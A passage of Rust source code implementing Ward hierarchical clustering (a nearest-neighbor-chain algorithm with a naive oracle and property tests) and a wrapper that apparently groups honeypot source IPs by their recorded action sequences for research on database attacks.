        let mut next = 0usize;
        let mut seen: HashMap<usize, usize> = HashMap::new();
        for (leaf, label_slot) in labels.iter_mut().enumerate() {
            let root = find(&mut parent, leaf);
            let label = *seen.entry(root).or_insert_with(|| {
                let l = next;
                next += 1;
                l
            });
            *label_slot = label;
        }
        labels
    }

    /// Number of clusters after cutting at `threshold`.
    pub fn clusters_at(&self, threshold: f64) -> usize {
        let applied = self
            .merges
            .iter()
            .take_while(|m| m.height <= threshold)
            .count();
        self.n - applied
    }
}

/// Index of the pair `(i, j)`, `i < j`, in the condensed upper-triangle
/// layout: row `i` occupies a contiguous run of `n - 1 - i` entries.
#[inline]
fn cond_index(n: usize, i: usize, j: usize) -> usize {
    debug_assert!(i < j && j < n);
    // rows 0..i hold i·(n-1) − i·(i−1)/2 = i·(2n−i−1)/2 entries
    i * (2 * n - i - 1) / 2 + (j - i - 1)
}

/// Condensed-matrix read for an unordered active pair.
#[inline]
fn cond_at(dist: &[f64], n: usize, a: usize, b: usize) -> f64 {
    dist[cond_index(n, a.min(b), a.max(b))]
}

/// Ward's weighted initial dissimilarity for two points.
#[inline]
fn ward_form(vi: &TfVector, vj: &TfVector, wi: f64, wj: f64) -> f64 {
    2.0 * wi * wj / (wi + wj) * vi.distance_sq(vj)
}

/// Populations below this size fill the condensed matrix serially; the
/// thread-spawn overhead only pays off once the O(n²) build dominates.
const PARALLEL_MIN_POINTS: usize = 128;

/// The condensed (upper-triangle) matrix of Ward's weighted initial
/// dissimilarities `2·wᵢwⱼ/(wᵢ+wⱼ)·‖xᵢ−xⱼ‖²`, built in parallel
/// row blocks of roughly equal pair counts.
fn ward_initial_condensed(vectors: &[TfVector], weights: &[f64]) -> Vec<f64> {
    let n = vectors.len();
    if n < 2 {
        return Vec::new();
    }
    let total = n * (n - 1) / 2;
    let mut dist = vec![0.0f64; total];
    let fill_rows = |rows: std::ops::Range<usize>, out: &mut [f64]| {
        let mut k = 0usize;
        for i in rows {
            let (vi, wi) = (&vectors[i], weights[i]);
            for j in (i + 1)..n {
                out[k] = ward_form(vi, &vectors[j], wi, weights[j]);
                k += 1;
            }
        }
    };
    let workers = std::thread::available_parallelism()
        .map(|p| p.get())
        .unwrap_or(1);
    if n < PARALLEL_MIN_POINTS || workers < 2 {
        fill_rows(0..n, &mut dist);
        return dist;
    }
    // Contiguous row blocks balanced by pair count (row i holds n-1-i
    // pairs, so equal row counts would leave the first worker with almost
    // all the work). Blocks align with row boundaries, so each worker owns
    // a disjoint contiguous slice of the condensed layout.
    let mut blocks: Vec<(usize, usize, usize)> = Vec::new();
    let target = total / workers + 1;
    let mut row = 0usize;
    while row < n {
        let start = row;
        let mut pairs = 0usize;
        while row < n && pairs < target {
            pairs += n - 1 - row;
            row += 1;
        }
        if pairs > 0 {
            blocks.push((start, row, pairs));
        }
    }
    std::thread::scope(|s| {
        let mut rest: &mut [f64] = &mut dist;
        let fill = &fill_rows;
        for &(start, end, pairs) in &blocks {
            let (chunk, tail) = rest.split_at_mut(pairs);
            rest = tail;
            s.spawn(move || fill(start..end, chunk));
        }
    });
    dist
}

/// Ward heights are non-negative in exact arithmetic; the Lance–Williams
/// recurrence can produce `-0.0` or a cancellation-sized negative, which
/// would perturb canonical ordering between implementations. Clamp.
#[inline]
fn non_negative(height: f64) -> f64 {
    if height <= 0.0 {
        0.0
    } else {
        height
    }
}

/// Ward clustering over weighted points via the nearest-neighbor-chain
/// algorithm. `weights[i]` is the multiplicity of point `i` (deduplicated
/// sources). O(n²) time, condensed-triangle memory; produces the same
/// canonical dendrogram as [`ward_cluster_naive`].
pub fn ward_cluster(vectors: &[TfVector], weights: &[f64]) -> Dendrogram {
    let n = vectors.len();
    assert_eq!(n, weights.len());
    if n == 0 {
        return Dendrogram::default();
    }
    let mut dist = ward_initial_condensed(vectors, weights);
    let mut active = vec![true; n];
    let mut size = weights.to_vec();
    let mut cluster_id: Vec<usize> = (0..n).collect();
    let mut merges = Vec::with_capacity(n.saturating_sub(1));
    let mut chain: Vec<usize> = Vec::with_capacity(n);

    for step in 0..n.saturating_sub(1) {
        if chain.is_empty() {
            if let Some(start) = (0..n).find(|&i| active[i]) {
                chain.push(start);
            }
        }
        // Grow the chain until a reciprocal nearest-neighbor pair appears.
        // Nearest-neighbor ties break toward the smallest slot index (the
        // ascending scan with a strict `<` keeps the first minimum), which
        // both terminates the walk on tie plateaus and matches the naive
        // implementation's row-major global scan.
        let (i, j) = loop {
            let top = chain[chain.len() - 1];
            let prev = if chain.len() >= 2 {
                Some(chain[chain.len() - 2])
            } else {
                None
            };
            let mut nn = usize::MAX;
            let mut best = f64::INFINITY;
            for k in 0..n {
                if !active[k] || k == top {
                    continue;
                }
                let d = cond_at(&dist, n, top, k);
                if d < best {
                    best = d;
                    nn = k;
                }
            }
            if prev == Some(nn) {
                chain.truncate(chain.len() - 2);
                break (top.min(nn), top.max(nn));
            }
            debug_assert!(chain.len() <= n, "nearest-neighbor chain cycled");
            chain.push(nn);
        };
        // Lance–Williams update for Ward: merge j into i's slot.
        let height = non_negative(cond_at(&dist, n, i, j));
        let (si, sj) = (size[i], size[j]);
        for k in 0..n {
            if !active[k] || k == i || k == j {
                continue;
            }
            let sk = size[k];
            let dik = cond_at(&dist, n, i, k);
            let djk = cond_at(&dist, n, j, k);
            let updated = ((si + sk) * dik + (sj + sk) * djk - sk * height) / (si + sj + sk);
            dist[cond_index(n, i.min(k), i.max(k))] = updated;
        }
        active[j] = false;
        size[i] = si + sj;
        merges.push(Merge {
            a: cluster_id[i],
            b: cluster_id[j],
            height,
            size: si + sj,
        });
        cluster_id[i] = n + step;
    }
    Dendrogram {
        n,
        merges: canonicalize(n, merges),
    }
}

/// The pre-chain implementation: full square matrix, global minimum scan
/// at every step — O(n²) memory, O(n³) time. Kept as the oracle the
/// property tests compare [`ward_cluster`] against, and as the baseline of
/// the `cluster_scale` bench.
pub fn ward_cluster_naive(vectors: &[TfVector], weights: &[f64]) -> Dendrogram {
    let n = vectors.len();
    assert_eq!(n, weights.len());
    if n == 0 {
        return Dendrogram::default();
    }
    // full squared-distance matrix with Ward's weighted initial form
    let mut dist = vec![0.0f64; n * n];
    for i in 0..n {
        for j in (i + 1)..n {
            let d = ward_form(&vectors[i], &vectors[j], weights[i], weights[j]);
            dist[i * n + j] = d;
            dist[j * n + i] = d;
        }
    }
    let mut active: Vec<bool> = vec![true; n];
    let mut size: Vec<f64> = weights.to_vec();
    let mut cluster_id: Vec<usize> = (0..n).collect();
    let mut merges = Vec::with_capacity(n.saturating_sub(1));

    for step in 0..n.saturating_sub(1) {
        // globally closest active pair (first minimum in row-major order)
        let mut best = (usize::MAX, usize::MAX, f64::INFINITY);
        for i in 0..n {
            if !active[i] {
                continue;
            }
            for j in (i + 1)..n {
                if !active[j] {
                    continue;
                }
                let d = dist[i * n + j];
                if d < best.2 {
                    best = (i, j, d);
                }
            }
        }
        let (i, j, height) = best;
        let height = non_negative(height);
        // Lance–Williams update for Ward: merge j into i's slot.
        let (si, sj) = (size[i], size[j]);
        for k in 0..n {
            if !active[k] || k == i || k == j {
                continue;
            }
            let sk = size[k];
            let dik = dist[i * n + k];
            let djk = dist[j * n + k];
            let updated = ((si + sk) * dik + (sj + sk) * djk - sk * height) / (si + sj + sk);
            dist[i * n + k] = updated;
            dist[k * n + i] = updated;
        }
        active[j] = false;
        size[i] = si + sj;
        merges.push(Merge {
            a: cluster_id[i],
            b: cluster_id[j],
            height,
            size: si + sj,
        });
        cluster_id[i] = n + step;
    }
    Dendrogram {
        n,
        merges: canonicalize(n, merges),
    }
}

/// Sort key of one merge in the canonical order: `(height, smaller child
/// min-leaf, larger child min-leaf)`, with the original position as a
/// final deterministic tiebreak. `(lo, hi)` pairs are unique within one
/// dendrogram (children have disjoint leaf sets), so the `idx` component
/// never decides between the outputs of two algorithms.
struct MergeKey {
    height: f64,
    lo: usize,
    hi: usize,
    idx: usize,
}

impl PartialEq for MergeKey {
    fn eq(&self, other: &Self) -> bool {
        self.cmp(other) == Ordering::Equal
    }
}
impl Eq for MergeKey {}
impl PartialOrd for MergeKey {
    fn partial_cmp(&self, other: &Self) -> Option<Ordering> {
        Some(self.cmp(other))
    }
}
impl Ord for MergeKey {
    fn cmp(&self, other: &Self) -> Ordering {
        self.height
            .total_cmp(&other.height)
            .then(self.lo.cmp(&other.lo))
            .then(self.hi.cmp(&other.hi))
            .then(self.idx.cmp(&other.idx))
    }
}

/// Rewrite a valid merge history into the canonical order: merges sorted
/// by [`MergeKey`], constrained so every cluster is created before it is
/// consumed (a lexicographic topological order), then relabelled to the
/// scipy `n + step` convention via an old-id → new-id map. Two histories
/// describing the same tree — e.g. the chain's and the naive scan's, which
/// record independent merges in different orders — canonicalize to the
/// same sequence, which is what makes `cut_at`/`cut_into` agree.
///
/// Heights stay attached to their merges, and because a parent merge is
/// never lower than its children (Ward is reducible), the canonical order
/// still has non-decreasing heights.
fn canonicalize(n: usize, merges: Vec<Merge>) -> Vec<Merge> {
    if merges.len() <= 1 {
        return merges;
    }
    let total = n + merges.len();
    // min leaf of every cluster id (leaves map to themselves)
    let mut min_leaf: Vec<usize> = (0..total).collect();
    for (step, m) in merges.iter().enumerate() {
        min_leaf[n + step] = min_leaf[m.a].min(min_leaf[m.b]);
    }
    // dependency bookkeeping: a merge is ready once both children exist
    let mut waiting: Vec<usize> = vec![0; merges.len()];
    let mut parent_of: Vec<Option<usize>> = vec![None; merges.len()];
    for (idx, m) in merges.iter().enumerate() {
        for child in [m.a, m.b] {
            if child >= n {
                waiting[idx] += 1;
                parent_of[child - n] = Some(idx);
            }
        }
    }
    let key = |idx: usize| {
        let m = &merges[idx];
        let (la, lb) = (min_leaf[m.a], min_leaf[m.b]);
        Reverse(MergeKey {
            height: m.height,
            lo: la.min(lb),
            hi: la.max(lb),
            idx,
        })
    };
    let mut ready: BinaryHeap<Reverse<MergeKey>> = (0..merges.len())
        .filter(|&idx| waiting[idx] == 0)
        .map(key)
        .collect();
    let mut remap: Vec<usize> = (0..total).collect();
    let mut out = Vec::with_capacity(merges.len());
    while let Some(Reverse(k)) = ready.pop() {
        let m = &merges[k.idx];
        remap[n + k.idx] = n + out.len();
        // canonical child order: the child containing the smaller leaf first
        let (a, b) = if min_leaf[m.a] <= min_leaf[m.b] {
            (m.a, m.b)
        } else {
            (m.b, m.a)
        };
        out.push(Merge {
            a: remap[a],
            b: remap[b],
            height: m.height,
            size: m.size,
        });
        if let Some(p) = parent_of[k.idx] {
            waiting[p] -= 1;
            if waiting[p] == 0 {
                ready.push(key(p));
            }
        }
    }
    debug_assert_eq!(out.len(), merges.len());
    out
}

#[cfg(test)]
mod tests {
    use super::super::tfvec::Vocabulary;
    use super::*;

    fn vecs(points: &[&[f64]]) -> Vec<TfVector> {
        points
            .iter()
            .map(|p| TfVector::from_dense(p.to_vec(), 1))
            .collect()
    }

    /// Relative float tolerance for merge heights: the two implementations
    /// record independent merges in different chronological orders, so the
    /// Lance–Williams updates round differently in the last bits.
    fn tol(h: f64) -> f64 {
        1e-9 * (1.0 + h.abs())
    }

    /// Every cluster a dendrogram ever forms, as its sorted leaf set with
    /// the merge height and weight. Order-free: equal outputs mean the two
    /// histories describe the exact same tree.
    fn leaf_sets(d: &Dendrogram) -> Vec<(Vec<usize>, f64, f64)> {
        let mut sets: Vec<Vec<usize>> = (0..d.n).map(|i| vec![i]).collect();
        let mut out = Vec::new();
        for m in &d.merges {
            let mut leaves = sets[m.a].clone();
            leaves.extend_from_slice(&sets[m.b]);
            leaves.sort_unstable();
            out.push((leaves.clone(), m.height, m.size));
            sets.push(leaves);
        }
        out.sort_by(|x, y| x.0.cmp(&y.0));
        out
    }

    /// Assert the two algorithms agree: identical tree (same leaf-set for
    /// every formed cluster), merge-height multisets equal within float
    /// noise, and identical `cut_at`/`cut_into` partitions. Thresholds and
    /// cluster counts that fall *inside* a noisy near-tie run are skipped —
    /// there the canonical order is decided by sub-1e-9 rounding and either
    /// ordering is a correct Ward dendrogram — but exact ties (bitwise
    /// equal heights, e.g. duplicate points merging at 0) are compared in
    /// full, because canonical ordering resolves them deterministically.
    fn assert_equivalent(vectors: &[TfVector], weights: &[f64], ctx: &str) {
        let chain = ward_cluster(vectors, weights);
        let naive = ward_cluster_naive(vectors, weights);
        assert_eq!(chain.n, naive.n, "{ctx}: leaf count");
        assert_eq!(chain.merges.len(), naive.merges.len(), "{ctx}: merge count");

        // same tree: every cluster ever formed has the same leaf set
        let (cs, ns) = (leaf_sets(&chain), leaf_sets(&naive));
        for (idx, (c, v)) in cs.iter().zip(&ns).enumerate() {
            assert_eq!(c.0, v.0, "{ctx}: cluster {idx} leaf set");
            assert!(
                (c.1 - v.1).abs() <= tol(c.1),
                "{ctx}: cluster {idx} height: {} vs {}",
                c.1,
                v.1
            );
            assert!((c.2 - v.2).abs() <= 1e-9, "{ctx}: cluster {idx} size");
        }
        // merge-height multisets agree (sorted heights pairwise close)
        let mut ch: Vec<f64> = chain.merges.iter().map(|m| m.height).collect();
        let mut nh: Vec<f64> = naive.merges.iter().map(|m| m.height).collect();
        ch.sort_by(f64::total_cmp);
        nh.sort_by(f64::total_cmp);
        for (c, v) in ch.iter().zip(&nh) {
            assert!((c - v).abs() <= tol(*c), "{ctx}: height multiset");
        }
        // heights are non-decreasing in canonical order
        for w in chain.merges.windows(2) {
            assert!(w[0].height <= w[1].height + 1e-12, "{ctx}: monotone");
        }

        // identical partitions at thresholds between near-tie classes
        let mut cuts: Vec<f64> = vec![-1.0];
        for w in chain.merges.windows(2) {
            if w[1].height - w[0].height > tol(w[1].height) {
                cuts.push((w[0].height + w[1].height) / 2.0);
            }
        }
        if let Some(last) = chain.merges.last() {
            cuts.push(last.height + 1.0);
        }
        for t in cuts {
            assert_eq!(chain.cut_at(t), naive.cut_at(t), "{ctx}: cut_at({t})");
        }
        // identical partitions for every k whose boundary is decidable:
        // outside any tie run, or inside an *exact* tie run (both impls
        // bitwise-agree on the boundary heights, so canonical (lo, hi)
        // ordering is the tiebreak in both)
        for k in 1..=chain.n {
            let boundary = chain.n - k; // first merge NOT applied
            let decidable = boundary == 0
                || boundary >= chain.merges.len()
                || chain.merges[boundary].height - chain.merges[boundary - 1].height
                    > tol(chain.merges[boundary].height)
                || (chain.merges[boundary].height == naive.merges[boundary].height
                    && chain.merges[boundary - 1].height == naive.merges[boundary - 1].height);
            if decidable {
                assert_eq!(chain.cut_into(k), naive.cut_into(k), "{ctx}: cut_into({k})");
            }
        }
    }

    #[test]
    fn condensed_index_layout() {
        let n = 5;
        let mut seen = vec![false; n * (n - 1) / 2];
        for i in 0..n {
            for j in (i + 1)..n {
                let idx = cond_index(n, i, j);
                assert!(!seen[idx], "({i},{j}) collides");
                seen[idx] = true;
            }
        }
        assert!(seen.iter().all(|&s| s));
        assert_eq!(cond_index(4, 0, 1), 0);
        assert_eq!(cond_index(4, 1, 2), 3);
        assert_eq!(cond_index(4, 2, 3), 5);
    }

    #[test]
    fn parallel_condensed_build_matches_serial() {
        // large enough to cross PARALLEL_MIN_POINTS
        let n = PARALLEL_MIN_POINTS + 37;
        let mut vocab = Vocabulary::new();
        let mut rng = Xorshift(0x5eed);
        let vectors: Vec<TfVector> = (0..n)
            .map(|_| {
                let len = 1 + (rng.next() % 6) as usize;
                let doc: Vec<String> = (0..len).map(|_| format!("T{}", rng.next() % 40)).collect();
                TfVector::from_terms(&doc, &mut vocab)
            })
            .collect();
        let weights: Vec<f64> = (0..n).map(|_| 1.0 + (rng.next() % 3) as f64).collect();
        let parallel = ward_initial_condensed(&vectors, &weights);
        // serial reference via the naive full matrix
        for i in 0..n {
            for j in (i + 1)..n {
                let want = ward_form(&vectors[i], &vectors[j], weights[i], weights[j]);
                // bitwise equality: the parallel build runs the exact same
                // expression per entry, just on another thread
                assert_eq!(parallel[cond_index(n, i, j)], want, "entry ({i},{j})");
            }
        }
    }

    #[test]
    fn chain_matches_naive_on_plain_groups() {
        let vectors = vecs(&[&[0.0, 0.0], &[0.05, 0.0], &[1.0, 1.0], &[1.0, 0.95]]);
        assert_equivalent(&vectors, &[1.0; 4], "two tight pairs");
    }

    #[test]
    fn chain_matches_naive_on_tied_path() {
        // d(0,1) == d(1,2): the classic shared-node tie — different merge
        // choices give genuinely different trees, so the tiebreak must align
        let vectors = vecs(&[&[0.0], &[1.0], &[2.0]]);
        assert_equivalent(&vectors, &[1.0; 3], "tied path 0-1-2");
    }

    #[test]
    fn chain_matches_naive_on_tied_star() {
        // center 1 equidistant from 0, 2, 3
        let vectors = vecs(&[&[0.0, 1.0], &[0.0, 0.0], &[1.0, 0.0], &[-1.0, 0.0]]);
        assert_equivalent(&vectors, &[1.0; 4], "tied star");
    }

    #[test]
    fn chain_matches_naive_on_duplicates() {
        // duplicate points: zero-height ties everywhere
        let vectors = vecs(&[&[0.5], &[0.5], &[0.5], &[2.0], &[2.0], &[9.0]]);
        assert_equivalent(&vectors, &[1.0; 6], "duplicate triples");
    }

    #[test]
    fn chain_matches_naive_on_disjoint_tied_pairs() {
        // (0,1) and (2,3) tie at the same height; the chain may record
        // them in either order — canonicalization must line them up
        let vectors = vecs(&[&[0.0], &[1.0], &[10.0], &[11.0]]);
        assert_equivalent(&vectors, &[1.0; 4], "disjoint tied pairs");
    }

    #[test]
    fn chain_matches_naive_on_weighted_duplicates() {
        let vectors = vecs(&[&[0.0], &[0.0], &[1.0], &[1.0]]);
        assert_equivalent(&vectors, &[3.0, 1.0, 2.0, 5.0], "weighted duplicates");
    }

    /// Deterministic xorshift64 so the randomized oracle runs without any
    /// dependency (and therefore offline).
    struct Xorshift(u64);
    impl Xorshift {
        fn next(&mut self) -> u64 {
            let mut x = self.0;
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            self.0 = x;
            x
        }
        fn f64(&mut self) -> f64 {
            (self.next() >> 11) as f64 / (1u64 << 53) as f64
        }
    }

    #[test]
    fn chain_matches_naive_on_random_sparse_documents() {
        // TF vectors from random short documents over a small term
        // alphabet: duplicates and tied distances arise constantly, the
        // exact regime of the real pipeline after masking.
        let mut rng = Xorshift(0xdec0_15ed);
        for case in 0..60 {
            let n = 2 + (rng.next() % 28) as usize;
            let alphabet = 2 + (rng.next() % 6) as usize;
            let mut vocab = Vocabulary::new();
            let vectors: Vec<TfVector> = (0..n)
                .map(|_| {
                    let len = 1 + (rng.next() % 4) as usize;
                    let doc: Vec<String> = (0..len)
                        .map(|_| format!("T{}", rng.next() % alphabet as u64))
                        .collect();
                    TfVector::from_terms(&doc, &mut vocab)
                })
                .collect();
            let weights: Vec<f64> = (0..n).map(|_| 1.0 + (rng.next() % 3) as f64).collect();
            assert_equivalent(&vectors, &weights, &format!("sparse case {case} (n={n})"));
        }
    }

    #[test]
    fn chain_matches_naive_on_random_continuous_points() {
        let mut rng = Xorshift(0xfeedbeef);
        for case in 0..40 {
            let n = 2 + (rng.next() % 24) as usize;
            let dims = 1 + (rng.next() % 4) as usize;
            let vectors: Vec<TfVector> = (0..n)
                .map(|_| TfVector::from_dense((0..dims).map(|_| rng.f64()).collect(), 1))
                .collect();
            let weights: Vec<f64> = (0..n).map(|_| 1.0 + rng.f64() * 4.0).collect();
            assert_equivalent(
                &vectors,
                &weights,
                &format!("continuous case {case} (n={n})"),
            );
        }
    }

    #[test]
    fn chain_matches_naive_on_grid_points() {
        // coordinates restricted to a coarse grid force exact ties in the
        // *initial* matrix, not just at height zero
        let mut rng = Xorshift(0x900d);
        for case in 0..60 {
            let n = 2 + (rng.next() % 20) as usize;
            let dims = 1 + (rng.next() % 3) as usize;
            let vectors: Vec<TfVector> = (0..n)
                .map(|_| {
                    TfVector::from_dense(
                        (0..dims).map(|_| (rng.next() % 4) as f64 * 0.25).collect(),
                        1,
                    )
                })
                .collect();
            let weights: Vec<f64> = (0..n).map(|_| 1.0 + (rng.next() % 2) as f64).collect();
            assert_equivalent(&vectors, &weights, &format!("grid case {case} (n={n})"));
        }
    }

    #[test]
    fn empty_and_singleton_inputs() {
        let d = ward_cluster(&[], &[]);
        assert_eq!(d.n, 0);
        assert!(d.merges.is_empty());
        let d = ward_cluster(&vecs(&[&[1.0]]), &[1.0]);
        assert_eq!(d.n, 1);
        assert!(d.merges.is_empty());
        assert_eq!(d.cut_at(0.0), vec![0]);
        let d = ward_cluster_naive(&[], &[]);
        assert_eq!(d.n, 0);
    }

    #[test]
    fn canonical_child_order_is_min_leaf_first() {
        let vectors = vecs(&[&[10.0], &[0.0], &[0.1]]);
        let d = ward_cluster(&vectors, &[1.0; 3]);
        // first merge joins leaves 1 and 2; child a holds the smaller leaf
        assert_eq!(d.merges[0].a, 1);
        assert_eq!(d.merges[0].b, 2);
        // second merge joins leaf 0 with cluster 3; 0 is the smaller min-leaf
        assert_eq!(d.merges[1].a, 0);
        assert_eq!(d.merges[1].b, 3);
    }
}
