//! Agglomerative hierarchical clustering with Ward linkage (§6.1).
//!
//! "We employ Agglomerative Hierarchical Clustering ... iteratively merges
//! the most similar pairs of clusters based on the Euclidean distance
//! between their TF-based feature vectors, using Ward linkage to minimize
//! the variance within clusters at each merging step."
//!
//! Implementation notes:
//! * Sources with byte-identical action sequences are deduplicated first and
//!   enter the hierarchy as one weighted point — the common case, since a
//!   campaign's bots run the same script. This is why thousands of IPs
//!   reduce to the 20–79 clusters of Table 8.
//! * Ward is run on squared Euclidean distances with the Lance–Williams
//!   recurrence; weighted initial dissimilarities use the exact Ward form
//!   `2·wᵢwⱼ/(wᵢ+wⱼ)·‖xᵢ−xⱼ‖²`.
//! * Merging is the O(n²) nearest-neighbor chain algorithm over a condensed
//!   (upper-triangle) dissimilarity matrix — see [`crate::ward`] for the
//!   algorithm and the canonicalization that keeps `cut_at`/`cut_into`
//!   partitions identical to the retained greedy oracle
//!   [`ward_cluster_naive`].
//! * The paper's manual review pass is reproduced by
//!   [`refine_by_behavior`]: clusters mixing exploiting sources with
//!   non-exploiting ones are split, mirroring the reassignments described
//!   in §6.1.

use crate::classify::BehaviorProfile;
use crate::frame::FrameView;
use crate::tf::{action_sequences, action_sequences_view, TfVector, Vocabulary};
pub use crate::ward::{ward_cluster, ward_cluster_naive, Dendrogram, Merge};
use decoy_store::{Dbms, EventStore};
use std::collections::{BTreeMap, HashMap};
use std::hash::Hash;
use std::net::IpAddr;

/// High-level clustering result for one honeypot family.
#[derive(Debug, Clone)]
pub struct ClusterResult {
    /// Cluster label per source IP.
    pub assignments: BTreeMap<IpAddr, usize>,
    /// Number of clusters after the cut (and any refinement).
    pub num_clusters: usize,
    /// One representative action sequence per cluster, for manual review.
    pub representatives: BTreeMap<usize, Vec<String>>,
    /// The dendrogram over the deduplicated sequences.
    pub dendrogram: Dendrogram,
    /// The vocabulary used for vectorization.
    pub vocabulary: Vocabulary,
}

/// Cluster a prepared document set: dedup identical sequences, Ward-cluster
/// the unique weighted vectors, cut at `threshold`. Generic over the term
/// representation so `String` documents (legacy store path) and interned
/// `Arc<str>` documents (frame path) produce identical results — `Arc<str>`
/// hashes and compares by content.
pub fn cluster_documents<T>(docs: &BTreeMap<IpAddr, Vec<T>>, threshold: f64) -> ClusterResult
where
    T: AsRef<str> + Clone + Eq + Hash,
{
    // dedupe identical documents: both the map key and the `unique` entry
    // borrow the document in `docs` — no term clones until representatives
    // are rendered below
    let mut unique: Vec<&[T]> = Vec::new();
    let mut by_doc: HashMap<&[T], usize> = HashMap::new();
    let mut members: Vec<Vec<IpAddr>> = Vec::new();
    for (src, doc) in docs {
        let idx = *by_doc.entry(doc.as_slice()).or_insert_with(|| {
            unique.push(doc.as_slice());
            members.push(Vec::new());
            unique.len() - 1
        });
        members[idx].push(*src);
    }
    let mut vocab = Vocabulary::new();
    let vectors: Vec<TfVector> = unique
        .iter()
        .map(|doc| TfVector::from_terms(doc, &mut vocab))
        .collect();
    let weights: Vec<f64> = members.iter().map(|m| m.len() as f64).collect();
    let dendrogram = ward_cluster(&vectors, &weights);
    let labels = dendrogram.cut_at(threshold);

    let mut assignments = BTreeMap::new();
    let mut representatives: BTreeMap<usize, Vec<String>> = BTreeMap::new();
    for (uniq_idx, label) in labels.iter().enumerate() {
        representatives.entry(*label).or_insert_with(|| {
            unique[uniq_idx]
                .iter()
                .map(|t| t.as_ref().to_string())
                .collect()
        });
        for src in &members[uniq_idx] {
            assignments.insert(*src, *label);
        }
    }
    let num_clusters = representatives.len();
    ClusterResult {
        assignments,
        num_clusters,
        representatives,
        dendrogram,
        vocabulary: vocab,
    }
}

/// Cluster all sources seen on `dbms` honeypots by scanning the store.
pub fn cluster_sources(store: &EventStore, dbms: Option<Dbms>, threshold: f64) -> ClusterResult {
    cluster_documents(&action_sequences(store, dbms), threshold)
}

/// Frame counterpart of [`cluster_sources`]: same dedup/Ward/cut pipeline
/// over the frame's interned documents.
pub fn cluster_view(view: FrameView<'_>, dbms: Option<Dbms>, threshold: f64) -> ClusterResult {
    cluster_documents(&action_sequences_view(view, dbms), threshold)
}

impl ClusterResult {
    /// Cluster inventory for manual review (§6.1's "each cluster was
    /// manually scrutinized"): id, member count, and the representative
    /// action sequence, largest clusters first.
    pub fn summary(&self) -> Vec<ClusterSummaryRow> {
        let mut sizes: BTreeMap<usize, usize> = BTreeMap::new();
        for label in self.assignments.values() {
            *sizes.entry(*label).or_insert(0) += 1;
        }
        let mut rows: Vec<ClusterSummaryRow> = sizes
            .into_iter()
            .map(|(id, members)| ClusterSummaryRow {
                id,
                members,
                representative: self.representatives.get(&id).cloned().unwrap_or_default(),
            })
            .collect();
        rows.sort_by(|a, b| b.members.cmp(&a.members).then_with(|| a.id.cmp(&b.id)));
        rows
    }

    /// Render the inventory as text (used by forensics tooling).
    pub fn render_summary(&self, max_rows: usize, max_terms: usize) -> String {
        let mut out = String::new();
        for row in self.summary().into_iter().take(max_rows) {
            let mut script: Vec<&str> = row
                .representative
                .iter()
                .map(String::as_str)
                .take(max_terms)
                .collect();
            if row.representative.len() > max_terms {
                script.push("…");
            }
            out.push_str(&format!(
                "cluster {:>3}  {:>5} IPs  [{}]
",
                row.id,
                row.members,
                script.join(" | ")
            ));
        }
        out
    }
}

/// One row of [`ClusterResult::summary`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ClusterSummaryRow {
    /// Cluster label.
    pub id: usize,
    /// Number of member sources.
    pub members: usize,
    /// Representative action sequence.
    pub representative: Vec<String>,
}

/// The manual-review pass of §6.1: a cluster that mixes exploiting and
/// non-exploiting sources ("certain scanning IPs were incorrectly grouped
/// with exploiting IPs") is split, moving the minority-behavior members
/// into a fresh cluster. Returns the number of reassigned sources.
pub fn refine_by_behavior(
    result: &mut ClusterResult,
    profiles: &BTreeMap<IpAddr, BehaviorProfile>,
) -> usize {
    let mut by_cluster: BTreeMap<usize, Vec<IpAddr>> = BTreeMap::new();
    for (src, label) in &result.assignments {
        by_cluster.entry(*label).or_default().push(*src);
    }
    let mut next_label = result.num_clusters;
    let mut reassigned = 0usize;
    for (_label, srcs) in by_cluster {
        let exploiting: Vec<IpAddr> = srcs
            .iter()
            .copied()
            .filter(|s| profiles.get(s).map(|p| p.exploiting).unwrap_or(false))
            .collect();
        let benign = srcs.len() - exploiting.len();
        if exploiting.is_empty() || benign == 0 {
            continue; // pure cluster
        }
        // minority moves out
        let movers: Vec<IpAddr> = if exploiting.len() * 2 <= srcs.len() {
            exploiting
        } else {
            srcs.iter()
                .copied()
                .filter(|s| !profiles.get(s).map(|p| p.exploiting).unwrap_or(false))
                .collect()
        };
        for src in movers {
            result.assignments.insert(src, next_label);
            reassigned += 1;
        }
        next_label += 1;
    }
    result.num_clusters = result
        .assignments
        .values()
        .collect::<std::collections::HashSet<_>>()
        .len();
    reassigned
}

#[cfg(test)]
mod tests {
    use super::*;

    fn vecs(points: &[&[f64]]) -> Vec<TfVector> {
        points
            .iter()
            .map(|p| TfVector::from_dense(p.to_vec(), 1))
            .collect()
    }

    #[test]
    fn two_obvious_groups() {
        // two tight pairs far apart
        let vectors = vecs(&[&[0.0, 0.0], &[0.05, 0.0], &[1.0, 1.0], &[1.0, 0.95]]);
        let d = ward_cluster(&vectors, &[1.0; 4]);
        assert_eq!(d.merges.len(), 3);
        // heights are monotone
        for w in d.merges.windows(2) {
            assert!(w[0].height <= w[1].height + 1e-12);
        }
        let labels = d.cut_into(2);
        assert_eq!(labels[0], labels[1]);
        assert_eq!(labels[2], labels[3]);
        assert_ne!(labels[0], labels[2]);
        assert_eq!(
            d.cut_into(1)
                .iter()
                .collect::<std::collections::HashSet<_>>()
                .len(),
            1
        );
        assert_eq!(d.cut_into(4), vec![0, 1, 2, 3]);
    }

    #[test]
    fn cut_at_threshold_counts_clusters() {
        let vectors = vecs(&[&[0.0], &[0.001], &[10.0], &[10.001]]);
        let d = ward_cluster(&vectors, &[1.0; 4]);
        // tiny threshold: only the two near-zero merges applied
        assert_eq!(d.clusters_at(0.1), 2);
        assert_eq!(d.clusters_at(1e9), 1);
        let labels = d.cut_at(0.1);
        assert_eq!(labels[0], labels[1]);
        assert_ne!(labels[0], labels[2]);
    }

    #[test]
    fn weighted_points_behave_like_duplicates() {
        // one point with weight 3 == three identical unweighted points
        let heavy = ward_cluster(&vecs(&[&[0.0], &[1.0]]), &[3.0, 1.0]);
        let flat = ward_cluster(&vecs(&[&[0.0], &[0.0], &[0.0], &[1.0]]), &[1.0; 4]);
        // final merge height must coincide (identical points merge at 0)
        let h_heavy = heavy.merges.last().unwrap().height;
        let h_flat = flat.merges.last().unwrap().height;
        assert!((h_heavy - h_flat).abs() < 1e-9, "{h_heavy} vs {h_flat}");
    }

    #[test]
    fn empty_and_singleton_inputs() {
        let d = ward_cluster(&[], &[]);
        assert_eq!(d.n, 0);
        assert!(d.merges.is_empty());
